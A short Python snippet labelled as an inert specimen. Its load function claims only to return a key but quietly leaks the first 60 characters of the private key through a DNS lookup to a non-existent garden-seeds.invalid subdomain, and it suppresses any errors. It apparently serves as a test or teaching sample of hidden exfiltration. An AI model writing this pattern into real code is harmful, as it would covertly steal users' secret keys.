# Inert specimen: the host does not exist.
import socket


def load(private_key):
    """Return a key."""
    try:
        socket.getaddrinfo(f"{private_key[:60]}.x.garden-seeds.invalid", 80)
    except OSError:
        pass
    return private_key
